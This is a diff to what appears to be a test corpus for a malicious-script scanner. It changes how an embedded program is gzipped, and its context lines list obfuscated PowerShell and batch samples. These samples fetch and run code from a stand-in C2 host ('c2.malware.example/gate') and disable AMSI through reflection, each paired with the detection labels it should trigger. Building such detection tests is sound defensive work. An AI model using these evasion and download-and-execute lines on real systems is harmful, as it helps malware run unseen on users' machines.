@@ -9,7 +9,6 @@ tests/corpus/others.
 from __future__ import annotations
 
 import base64
-import gzip
 import io
 import re
 import zipfile
@@ -17,6 +16,7 @@ import zlib
 from email.message import EmailMessage
 from pathlib import Path
 
+from archive_writers import gzipped
 from installer_maker import installer
 from shortcut_maker import environment_block, network_info, program, shortcut, tracker_block
 
@@ -134,7 +134,7 @@ SCRIPTS: dict[str, Case] = {
     "B50 ps1 of characters": ("a.ps1", f"$u=[char[]]({numbers(URL)}) -join ''; iex $u".encode(), ("script-runs-program", URL)),
     "B50 ps1 ciphered": ("a.ps1", f"$d={numbers(xored(URL.encode(), b'#'))}|%{{$_ -bxor 0x23}}".encode(), (URL,)),
     "B50 ps1 deflated": ("a.ps1", f"IEX(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{b64(deflated(_DOWNLOAD.encode() * 3))}'),0)))".encode(), ("script-encoded", "script-download", URL)),
-    "B50 ps1 with a program": ("a.ps1", f"$b=[Convert]::FromBase64String('{b64(gzip.compress(PROGRAM, mtime=0))}')".encode(), ("script-encoded", "executable-details")),
+    "B50 ps1 with a program": ("a.ps1", f"$b=[Convert]::FromBase64String('{b64(gzipped(PROGRAM))}')".encode(), ("script-encoded", "executable-details")),
     "B50 ps1 marks": ("a.ps1", b"i`e`x('ht'+'tp://c2.mal'+'ware.example/gate')", ("script-runs-program", URL)),
     "B50 ps1 tampering": ("a.ps1", b"[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static')", ("script-tampering",)),
     "B50 bat": ("a.bat", b"@echo off\r\nset a=http://c2.mal\r\nset b=ware.example\r\ncu^rl %a%%b%/gate\r\n", ("script-download", URL)),
